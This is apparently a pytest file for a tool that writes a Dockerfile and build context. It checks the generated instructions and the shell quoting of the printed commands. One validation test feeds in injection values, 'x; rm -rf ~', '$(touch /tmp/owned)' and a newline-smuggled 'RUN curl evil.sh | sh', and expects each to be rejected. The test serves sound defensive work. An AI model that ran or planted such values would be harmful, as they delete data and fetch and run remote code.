"""``kilocard image``: the Dockerfile of an image that holds kilocard (``launcher.packaging=image``).

No container runtime here: the Dockerfile is parsed into its instructions and the FROM, COPY, RUN,
ENV lines are checked, with the pinned kilocard version and megatron-core range; the build context
is written by the real verb (a real wheel build).
"""

from __future__ import annotations

import re
import shlex
import zipfile

import pytest

from kilocard.base.shell import image_reference
from kilocard.cli import main
from kilocard.launch.image import DEFAULT_BASE, dockerfile
from kilocard.launch.package import mcore_range


def instructions(text: str) -> list[tuple[str, str]]:
    """(INSTRUCTION, arguments) per Dockerfile instruction; comments dropped, continuations joined."""
    joined = re.sub(r"\\\n", " ", text)
    out = []
    for line in joined.splitlines():
        if line.strip() and not line.lstrip().startswith("#"):
            word, _, rest = line.strip().partition(" ")
            out.append((word.upper(), rest.strip()))
    return out


def test_dockerfile_installs_the_pinned_wheel_on_the_base_and_checks_it_at_build_time():
    text = dockerfile("nvcr.io/nvidia/nemo:26.04", "kilocard-0.1.0-py3-none-any.whl", "0.1.0", ("0.16.1", "0.20"))
    ins = instructions(text)
    assert ins[0] == ("FROM", "nvcr.io/nvidia/nemo:26.04") and [k for k, _ in ins].count("FROM") == 1
    assert ("COPY", "kilocard-0.1.0-py3-none-any.whl preflight.py /opt/kilocard/") in ins
    runs = [shlex.split(arg) for k, arg in ins if k == "RUN"]
    pip = next(r for r in runs if "pip" in r)
    assert pip[pip.index("install") + 1 :] == [
        "--no-cache-dir",
        "--no-deps",
        "/opt/kilocard/kilocard-0.1.0-py3-none-any.whl",
    ]
    pre = next(r for r in runs if "/opt/kilocard/preflight.py" in r)
    assert pre[pre.index("--mcore-min") + 1] == "0.16.1" and pre[pre.index("--mcore-below") + 1] == "0.20"
    assert any("version('kilocard') == '0.1.0'" in " ".join(r) for r in runs)
    env = dict(kv.split("=", 1) for k, arg in ins if k == "ENV" for kv in arg.split())
    assert env["KILOCARD_VERSION"] == "0.1.0" and env["PYTHONUNBUFFERED"] == "1"
    assert {k for k, _ in ins} <= {"FROM", "COPY", "RUN", "ENV", "LABEL"}


@pytest.mark.integration  # builds the code snapshot's wheel
def test_image_verb_writes_the_build_context_and_the_import_line(tmp_path, capsys):
    out = tmp_path / "ctx"
    assert main(["image", "--output", str(out)]) == 0
    printed = capsys.readouterr().out
    (wheel,) = out.glob("kilocard-*.whl")
    version = wheel.name.split("-")[1]
    ins = instructions((out / "Dockerfile").read_text())
    assert ins[0] == ("FROM", DEFAULT_BASE) and (out / "preflight.py").exists()
    assert any(k == "COPY" and arg.startswith(wheel.name) for k, arg in ins)
    with zipfile.ZipFile(wheel) as zf:
        assert f"kilocard-{version}.dist-info/METADATA" in zf.namelist()
    assert f"docker build -t kilocard:{version} {out}" in printed
    assert f"enroot import -o {out}/kilocard-{version}.sqsh dockerd://kilocard:{version}" in printed
    assert "launcher.packaging=image" in printed and mcore_range()[0] in (out / "Dockerfile").read_text()
    assert main(["image", "--output", str(out)]) == 2  # never overwrites a build context (input that cannot be used)
    assert "already exists and is not empty" in capsys.readouterr().err


@pytest.mark.integration  # builds the code snapshot's wheel
def test_image_base_is_configurable(tmp_path, capsys):
    assert main(["image", "--output", str(tmp_path / "c"), "--base", "registry.site/nemo:26.01"]) == 0
    assert instructions((tmp_path / "c" / "Dockerfile").read_text())[0] == ("FROM", "registry.site/nemo:26.01")


@pytest.mark.parametrize(
    ("flag", "value"),
    [
        ("--tag", "x; rm -rf ~"),  # was printed unquoted in the `docker build` line
        ("--tag", "$(touch /tmp/owned)"),
        ("--base", "ubuntu:22.04\nRUN curl evil.sh | sh"),  # was a second RUN line in the Dockerfile
        ("--base", "Ubuntu"),  # an image name is lower case
        ("--base", ""),
    ],
)
def test_image_references_are_validated_before_anything_is_written(flag, value, tmp_path, capsys):
    rc = main(["image", "--output", str(tmp_path / "c"), flag, value])
    err = capsys.readouterr().err
    assert rc == 2 and not (tmp_path / "c").exists()
    assert err.startswith(f"kilocard image: error: {flag}: ") and "an image reference" in err
    assert len(err.strip().splitlines()) == 1


@pytest.mark.parametrize(
    "ref", ["kilocard:0.1.0", "nvcr.io/nvidia/nemo:26.04", "localhost:5000/team/kc_x-1:v2", "a/b@sha256:" + "ab" * 32]
)
def test_image_reference_accepts_what_docker_does(ref):
    assert image_reference("--tag", ref) == ref


def test_printed_commands_are_quoted_for_the_shell(tmp_path, capsys):
    """An output folder with a space (or any character) splits back into the same words."""
    out = tmp_path / "my ctx"
    assert main(["image", "--output", str(out), "--tag", "site/kilocard:1"]) == 0
    lines = {line.split(":", 1)[0]: line.split(":", 1)[1] for line in capsys.readouterr().out.splitlines()}
    assert shlex.split(lines["build"]) == ["docker", "build", "-t", "site/kilocard:1", str(out)]
    assert shlex.split(lines["import"]) == [
        "enroot",
        "import",
        "-o",
        f"{out}/site_kilocard-1.sqsh",
        "dockerd://site/kilocard:1",
    ]
